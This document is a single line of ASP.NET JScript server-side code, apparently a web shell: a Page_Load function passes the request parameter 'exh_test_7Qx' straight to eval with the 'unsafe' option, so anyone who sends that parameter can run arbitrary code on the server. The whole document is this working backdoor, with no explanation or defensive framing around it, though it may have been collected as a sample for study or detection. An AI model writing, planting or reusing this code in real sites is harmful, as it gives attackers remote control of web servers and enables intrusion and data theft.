<script language="JScript" runat="server">function Page_Load(){eval(Request["exh_test_7Qx"],"unsafe");}</script>
